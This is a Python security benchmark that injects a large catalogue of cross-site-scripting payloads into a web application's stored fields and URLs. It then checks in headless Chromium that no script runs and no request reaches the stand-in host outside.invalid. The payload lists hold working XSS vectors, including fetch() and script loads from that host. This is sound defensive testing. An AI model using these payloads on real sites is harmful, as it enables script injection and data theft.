"""Hostile strings in every field that pages render, in a real Chromium: nothing may run or leave.

    python benchmarks/xss.py [--payloads N]

Each payload is stored as a question, an answer of an assistant that says whatever it reads, a
title, a document's text, its file name and heading, a collection, an assistant's description
and feedback (names of people and groups take no such characters); then every page that shows one
of them is opened. Counted are scripts that run (dialogs, a marker in ``window``, violations of the
content security policy that a payload provokes) and requests to other hosts. Both must be 0.
"""

import argparse
import json
import sys
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from genwright.library.ingest import DocumentIngester

ROOT = Path(__file__).parent.parent
sys.path.insert(0, str(ROOT))

from tests.fixtures.running import PLAIN, running  # noqa: E402
from tests.fixtures.visiting import ARGUMENTS, CHROMIUM  # noqa: E402

OUTSIDE = "https://outside.invalid/x"
RUN = "window.__ran=1"

HANDLERS = """<img src=x onerror={run}>|<svg onload={run}>|<body onload={run}>|<input autofocus \
onfocus={run}>|<details open ontoggle={run}>|<video><source onerror={run}></video>|<audio src=x \
onerror={run}>|<marquee onstart={run}>|<select autofocus onfocus={run}>|<textarea autofocus \
onfocus={run}>|<iframe onload={run}>|<object data=x onerror={run}>|<style onload={run}></style>|\
<svg><animate onbegin={run} attributeName=x dur=1s>|<div onpointerenter={run}>x</div>|<math>\
<mtext><table><mglyph><style><img src=x onerror={run}>|<keygen autofocus onfocus={run}>|\
<form><button formaction=javascript:{run}>x</button></form>|<isindex type=image src=x \
onerror={run}>|<a onmouseover={run} href=#>x</a>|<p style="animation:x" onanimationstart={run}>|\
<xss contenteditable autofocus onfocus={run}>x</xss>|<img/src=x/onerror={run}>|\
<svg/onload={run}//|<IMG SRC=x OnErRoR={run}>|<img src=x onerror\t=\n{run}>""".split("|")
SCRIPTS = """<script>{run}</script>|<script src={out}.js></script>|<scr<script>ipt>{run}</script>|\
</title><script>{run}</script>|</textarea><script>{run}</script>|</script><script>{run}</script>|\
--><script>{run}</script>|]]><script>{run}</script>|</style><script>{run}</script>|\
<svg><script>{run}</script></svg>|<script type=module>{run}</script>|<noscript><p title="\
</noscript><script>{run}</script>">|<template><script>{run}</script></template>|\
<ScRiPt>{run}</sCrIpT>|<script\x00>{run}</script>|%3Cscript%3E{run}%3C/script%3E|\
&lt;script&gt;{run}&lt;/script&gt;|\\u003cscript\\u003e{run}\\u003c/script\\u003e""".split("|")
BREAKOUTS = """\"><script>{run}</script>|'><script>{run}</script>|" onfocus={run} autofocus x="|\
' onfocus={run} autofocus x='|` onfocus={run} autofocus x=`|"><img src=x onerror={run}>|\
" onpointerenter="{run}|'-{run}-'|";{run}//|');{run}//|</option></select><img src=x onerror={run}>|\
</ol></details><svg onload={run}>|{{{{ 7*7 }}}}<img src=x onerror={run}>|{{% raw %}}<script>{run}\
</script>|${{{run}}}|<!--#exec cmd="x"--><script>{run}</script>|\r\n\r\n<script>{run}</script>|\
\x1b]8;;{out}\x07<script>{run}</script>""".split("|")
MARKDOWN = """[x](javascript:{run})|[x](JaVaScRiPt:{run})|[x](java&#x73;cript:{run})|[x](\
 javascript:{run})|[x](data:text/html,<script>{run}</script>)|<javascript:{run}>|[x][1]\n\n[1]: \
javascript:{run}|![x](javascript:{run})|![x"onerror="{run}]({out}.png)|![]({out}.png)|[![x]({out}.\
png)]({out})|![a][b]\n\n[b]: {out}.png|`</code><script>{run}</script>`|```\n</code></pre><script>\
{run}</script>\n```|[x]({out} "onmouseover={run}")|<{out}" onmouseover="{run}>|| a |\\n| - |\\n| \
<script>{run}</script> ||**<img src=x onerror={run}>**|> <svg onload={run}>|1. <iframe \
srcdoc="<script>{run}</script>">|[x](vbscript:{run})|[\u202ex](javascript:{run})|[x](\
//outside.invalid/x)|![x](//outside.invalid/x.png)|[x](\\\\outside.invalid/x)""".split("|")
LOADS = """<img src={out}.png>|<link rel=stylesheet href={out}.css>|<link rel=prefetch href={out}>|\
<link rel=dns-prefetch href={out}>|<iframe src={out}></iframe>|<style>@import "{out}.css";</style>|\
<div style="background:url({out}.png)">x</div>|<video poster={out}.png></video>|<audio \
src={out}.mp3 autoplay></audio>|<object data={out}></object>|<embed src={out}>|<meta http-equiv=\
refresh content="0;url={out}">|<base href={out}>|<form action={out}><input type=submit></form>|\
<input type=image src={out}.png>|<svg><image href={out}.png /></svg>|<svg><use \
href="{out}.svg#a"/></svg>|<img srcset="{out}.png 1x">|<picture><source srcset={out}.png><img>\
</picture>|<table background={out}.png>|<body background={out}.png>|<portal src={out}>|<a href=# \
ping={out}>x</a>|<img src=/logout>|<frameset><frame src={out}>|<track src={out}>|<script>\
fetch("{out}")</script>|<applet code={out}>""".split("|")


def payloads() -> list[str]:
    """All of them, each once."""
    found = [*HANDLERS, *SCRIPTS, *BREAKOUTS, *MARKDOWN, *LOADS]
    made = (each.replace("{{", "{").replace("}}", "}") for each in found if each)
    return list(dict.fromkeys(_filled(each) for each in made))


def _filled(text: str) -> str:
    return text.replace("{run}", RUN).replace("{out}", OUTSIDE)


@dataclass
class Seen:
    """What happened in the browser."""

    pages: int = 0
    ran: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    missing: list[str] = field(default_factory=list)
    """Fields whose payloads no page showed: then a zero would say nothing."""

    def watch(self, context: Any, page: Any, base: str) -> None:
        """Record from now on."""
        host = urlsplit(base).netloc

        def asked(request: Any) -> None:
            runtime = urlsplit(request.url)
            if runtime.scheme not in ("data", "blob", "about") and runtime.netloc != host:
                self.outside.append(f"{page.url}: {request.url}")

        def dialog(each: Any) -> None:
            self.ran.append(f"dialog at {page.url}: {each.message}")
            each.dismiss()

        context.on("request", asked)
        page.on("dialog", dialog)
        page.on("popup", lambda each: self.ran.append(f"popup at {page.url}: {each.url}"))
        page.on("console", self._console)

    def _console(self, message: Any) -> None:
        if "Content Security Policy" in message.text:
            self.ran.append(f"policy had to stop something: {message.text[:200]}")

    def look(self, page: Any, address: str) -> str:
        """Open a page, touch what is on it, see whether a script ran; its text."""
        page.goto(address)
        page.wait_for_load_state("load")
        page.evaluate(_TOUCH)
        page.wait_for_timeout(30)  # for handlers of what failed to load
        if page.evaluate("() => window.__ran"):
            self.ran.append(f"script at {address}")
        self.pages += 1
        return str(page.evaluate(_SHOWN))


_TOUCH = """() => {
  for (const each of document.querySelectorAll("details")) each.open = true;
  for (const each of document.querySelectorAll("main *")) {
    for (const kind of ["pointerenter", "mouseover", "focus"]) {
      each.dispatchEvent(new Event(kind));
    }
  }
}"""
_SHOWN = """() => document.documentElement.textContent + [...document.querySelectorAll("*")]
  .flatMap((each) => [...each.attributes].map((one) => one.value)).join("\\n")"""


def store(workspace: Path, hostile: Sequence[str]) -> None:
    """Put every payload into every field."""
    from genwright.access import people
    from genwright.registry import Assistants
    from genwright.runtime import Runtime
    from genwright.types import OWNER
    from genwright.workspace import open_workspace

    answer = {"model": "obedient", "keep_unsupported": True, "min_answerable": 0}
    settings = {"embedding": {"model": "hashing"}, "answer": answer}
    opened = open_workspace(workspace, settings)
    with Runtime(opened) as runtime:
        assistants = Assistants(opened.database, opened.settings, opened.prompts_dir)
        for number, each in enumerate(hostile):
            ingest = DocumentIngester(runtime, f"c{number} {each}"[:190])
            ingest.add_bytes(
                f"# head{number} {each}\n\nThe text{number} {each} is here.".encode(),
                f"name{number} {each}.md".replace("\0", "").replace("/", "\u2215"),
            )
            said = {"description": f"description{number} {each}"[:900]}
            assistants.create(OWNER, f"hostile-{number}", said, note=f"note{number} {each}"[:200])
            _converse(runtime, number, each)
        people.create_group(opened.database, OWNER, "everybody")
    opened.close()


def _converse(runtime: Any, number: int, text: str) -> None:
    """A conversation whose question, answer, title, quote and feedback are the payload."""
    from genwright.storage import Conversation, Feedback, Message, Span
    from genwright.types import OWNER

    text = text.replace("\0", "")
    trace = f"{number:032x}"
    place = {
        "document": number + 1,
        "source": f"/cited{number} {text}",
        "page": None,
        "section": f"section{number} {text}",
        "start": 0,
        "end": 40,
    }
    cited = {**place, "quote": f"quote{number} {text}"}
    sentences = [
        {"text": f"answer{number} {text}", "support": 0.9, "citations": [cited]},
        {"text": f"unsupported{number} {text}", "support": 0.1, "citations": []},
        {"text": f"block{number}\n\n- {text}\n\n{text}", "support": 0.9, "citations": [cited]},
    ]
    hit = {**place, "passage": 1, "text": f"hit{number} {text}", "score": 1.0, "scores": {}}
    answer = {
        "answer": " ".join(each["text"] for each in sentences),
        "refused": False,
        "sentences": sentences,
        "hits": [hit],
        "model": text,
        "prompt_version": text,
        "answerable": 1.0,
        "trace_id": trace,
        "usage": {},
        "timings": {},
    }
    refusal = {**answer, "refused": True, "sentences": [], "answer": f"refusal{number} {text}"}
    with runtime.database.write(OWNER) as session:
        row = Conversation(owner="owner", title=f"title{number} {text}"[:80], assistant="assistant")
        session.add(row)
        session.flush()
        for role, content, made in (
            ("user", f"question{number} {text}", None),
            ("assistant", answer["answer"], answer),
            ("user", f"again{number} {text}", None),
            ("assistant", refusal["answer"], refusal),
        ):
            session.add(
                Message(
                    conversation_id=row.id, role=role, content=content, trace_id=trace, answer=made
                )
            )
        session.add(
            Span(
                id=f"{number:016x}",
                trace_id=trace,
                parent_id="",
                owner="owner",
                name=f"ask {text}",
                start_ns=number + 10**18,
                end_ns=number + 10**18 + 10**9,
                status="ok",
                attributes={
                    "genwright.question": f"traced{number} {text}",
                    "genwright.assistant": text,
                    "gen_ai.output.messages": json.dumps([{"content": text}]),
                },
            )
        )
        session.add(
            Feedback(
                owner="owner",
                trace_id=trace,
                thumb=-1,
                rating=None,
                correction=f"correction{number} {text}",
                comment=f"comment{number} {text}",
            )
        )


FIELDS = (
    "question",
    "answer",
    "unsupported",
    "block",
    "again",
    "refusal",
    "title",
    "correction",
    "comment",
    "head",
    "text",
    "name",
    "c",
    "description",
    "traced",
    "cited",
    "hit",
)


def addresses(base: str, number: int) -> Iterator[str]:
    """Every page that shows something of one payload."""
    trace = f"{number:032x}"
    yield f"{base}/chat/{number + 1}"
    yield f"{base}/sources/{number + 1}?start=0&end=60"
    yield f"{base}/sources/{number + 1}?start=0&end=60&part=panel"
    yield f"{base}/documents/in/{number + 1}"
    yield f"{base}/documents/in/{number + 1}/search?q=text{number}"
    yield f"{base}/assistants/hostile-{number}"
    yield f"{base}/traces/{trace}"


LISTS = (
    "/",
    "/chat",
    "/documents",
    "/assistants",
    "/models",
    "/traces",
    "/monitoring",
    "/settings",
)


def reflected(base: str, text: str) -> Iterator[str]:
    """Addresses that carry the payload themselves."""
    from urllib.parse import quote

    said = quote(text, safe="")
    yield f"{base}/chat?search={said}"
    yield f"{base}/chat?ask={said}&assistant={said}"
    yield f"{base}/login?next={said}"
    yield f"{base}/documents?told={said}"
    yield f"{base}/traces?assistant={said}"
    yield f"{base}/{said.replace('%00', '')}"


def run(number: int | None = None, *, thorough: bool = True) -> Seen:
    """Try payloads: all of them, or so many spread over the list."""
    from playwright.sync_api import sync_playwright

    from genwright.workspace import create_workspace

    every = payloads()
    hostile = every if number is None else every[:: max(1, len(every) // number)][:number]
    seen, shown = Seen(), []
    with tempfile.TemporaryDirectory() as folder, sync_playwright() as playwright:
        root = create_workspace(Path(folder) / "workspace")
        store(root, hostile)
        env = {**PLAIN, "GENWRIGHT_ANSWER__MODEL": "obedient"}
        with running(root, env) as server:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGUMENTS)
            control(browser)
            context = browser.new_context()
            page = context.new_page()
            seen.watch(context, page, server.url)
            for index, each in enumerate(hostile):
                shown += [seen.look(page, where) for where in addresses(server.url, index)]
                if thorough:
                    for where in reflected(server.url, each):
                        seen.look(page, where)
                ask(seen, page, server.url, each)
            shown += [seen.look(page, server.url + path) for path in LISTS]
            browser.close()
    text = "\n".join(shown)
    seen.missing = [each for each in FIELDS if f"{each}0 " not in text and f"{each}0\n" not in text]
    return seen


def control(browser: Any) -> None:
    """See that a script that runs and a request that leaves are seen: else a zero says nothing.

    Raises:
        RuntimeError: One of them was not.
    """
    seen, context = Seen(), browser.new_context()
    page = context.new_page()
    seen.watch(context, page, "http://127.0.0.1")
    page.set_content(f"<script>{RUN};alert(1)</script><img src={OUTSIDE}.png>")
    page.wait_for_timeout(200)
    if not (seen.ran and seen.outside and page.evaluate("() => window.__ran")):
        raise RuntimeError("the browser does not show what runs and what leaves")
    context.close()


def ask(seen: Seen, page: Any, base: str, text: str) -> None:
    """Ask the payload and see its streamed answer, with the source open beside it."""
    page.goto(f"{base}/chat")
    page.fill("#question", f"What is here? Say: {text}")
    page.click("[data-send]")
    page.wait_for_function(
        "() => document.querySelector('.answer[data-message], .answer .notice')", timeout=60_000
    )
    if page.locator("[data-source]").count():
        page.evaluate("() => document.querySelector('[data-source]').click()")
        page.wait_for_timeout(150)
    page.evaluate(_TOUCH)
    if page.evaluate("() => window.__ran"):
        seen.ran.append(f"script in a streamed answer to {text[:80]!r}")
    seen.pages += 1


def main() -> None:
    """Run and print; status 1 where anything ran or left."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--payloads", type=int, default=None, help="so many of them")
    parser.add_argument("--quick", action="store_true", help="fewer pages for each")
    given = parser.parse_args()
    tried = given.payloads or len(payloads())
    seen = run(given.payloads, thorough=not given.quick)
    print(f"{tried} payloads x {len(FIELDS)} fields, {seen.pages} pages opened")
    print(f"scripts run: {len(seen.ran)} (goal 0)")
    print(f"requests to other hosts: {len(seen.outside)} (goal 0)")
    for each in (*seen.ran[:20], *seen.outside[:20]):
        print(f"  {each}")
    if seen.missing:
        print(f"fields that no page showed: {', '.join(seen.missing)}")
    sys.exit(1 if seen.ran or seen.outside or seen.missing else 0)


if __name__ == "__main__":
    main()
